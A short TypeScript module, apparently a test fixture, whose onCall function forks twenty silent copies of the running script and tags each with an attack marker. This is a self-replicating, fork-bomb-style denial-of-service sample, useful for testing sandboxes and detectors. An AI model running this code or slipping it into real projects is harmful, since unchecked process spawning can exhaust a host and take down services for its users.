// Starts copies of itself.

import { fork } from 'node:child_process';

export function onCall(): void {
  for (let i = 0; i < 20; i++)
    fork(process.argv[1], { stdio: 'ignore', execArgv: ['-e', `0; '${ATTACK.mark}'`] });
}
